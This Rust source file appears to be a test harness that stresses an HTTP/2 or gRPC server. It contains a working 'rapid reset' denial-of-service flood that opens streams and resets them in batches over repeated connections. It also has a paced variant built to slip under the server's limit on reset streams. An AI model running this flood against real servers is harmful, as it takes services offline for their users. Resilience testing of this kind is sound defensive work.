//! HTTP/2 as far as it hurts.

use std::{
    io,
    net::SocketAddr,
    sync::atomic::{AtomicU64, Ordering},
    time::{Duration, Instant},
};

use socket2::SockRef;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::{TcpSocket, TcpStream},
    sync::Notify,
    time::{sleep, timeout},
};

pub(crate) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
pub(crate) const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
pub(crate) const SETTINGS: u8 = 4;
pub(crate) const PING: u8 = 6;
pub(crate) const END_HEADERS: u8 = 4;
/// Opened and reset in one piece of writing.
const BATCH: u32 = 100;
/// Streams that may be reset before they are taken up (`http2_max_pending_accept_reset_streams`), less what of two pieces
/// may be read at once.
const UNTAKEN: u32 = 10;

pub(crate) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
    bytes
}

pub(crate) fn opening() -> Vec<u8> {
    [PREFACE.to_vec(), frame(SETTINGS, 0, 0, &[])].concat()
}

/// The headers of a call, each a literal that is not indexed (RFC 7541, 6.2.2).
pub(crate) fn call_headers(path: &str) -> Vec<u8> {
    let fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "node"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ];
    let mut block = Vec::new();
    for (name, value) in fields {
        block.push(0);
        for text in [name, value] {
            block.push(u8::try_from(text.len()).unwrap());
            block.extend_from_slice(text.as_bytes());
        }
    }
    block
}

/// The attacker's address, where it has one: another network than the honest clients', as on the machine itself 127.0.0.1 is
/// exempt from some limits.
pub(crate) const ATTACKER: [u8; 4] = [127, 1, 0, 1];

/// A connection from this address. It ends with a reset, so that the attacker does not run out of ports.
pub(crate) async fn dial_from(host: [u8; 4], to: SocketAddr) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    SockRef::from(&socket).set_linger(Some(Duration::ZERO))?;
    socket.bind(SocketAddr::from((host, 0)))?;
    socket.connect(to).await
}

/// How streams are reset.
#[derive(Clone, Copy, PartialEq)]
pub(crate) enum Resets {
    /// As many as go out.
    AtOnce,
    /// Only as many as the victim has taken up, so that no limit on those which it has not is reached.
    Paced,
}

/// Opens calls and resets them, on connection after connection, until the time is over.
pub(crate) async fn reset_flood(
    to: SocketAddr,
    path: &str,
    pace: Resets,
    end: Instant,
    resets: &AtomicU64,
    cut: &AtomicU64,
) {
    let headers = call_headers(path);
    while Instant::now() < end {
        let Ok(mut socket) = dial_from(ATTACKER, to).await else {
            sleep(Duration::from_millis(10)).await;
            continue;
        };
        let (mut read, mut write) = socket.split();
        let answered = Notify::new();
        let batch_size = if pace == Resets::Paced { UNTAKEN } else { BATCH };
        let writing = async {
            write.write_all(&opening()).await?;
            for first in (0..).step_by(batch_size as usize) {
                let mut batch = Vec::new();
                for turn in first..first + batch_size {
                    let stream = 2 * turn + 1;
                    batch.extend(frame(HEADERS, END_HEADERS, stream, &headers));
                    batch.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
                }
                if pace == Resets::Paced {
                    batch.extend(frame(PING, 0, 0, &[7; 8]));
                }
                write.write_all(&batch).await?;
                resets.fetch_add(u64::from(batch_size), Ordering::Relaxed);
                if pace == Resets::Paced {
                    answered.notified().await;
                }
            }
            io::Result::Ok(())
        };
        let mut answer = vec![0; 16 * 1024];
        let reading = async {
            while let Ok(1..) = read.read(&mut answer).await {
                // Whatever comes: the victim has read on.
                answered.notify_one();
            }
        };
        let left = end.saturating_duration_since(Instant::now());
        let closed = timeout(left, async {
            tokio::select! { _ = writing => {} () = reading => {} }
        });
        if closed.await.is_ok() {
            cut.fetch_add(1, Ordering::Relaxed);
        }
    }
}
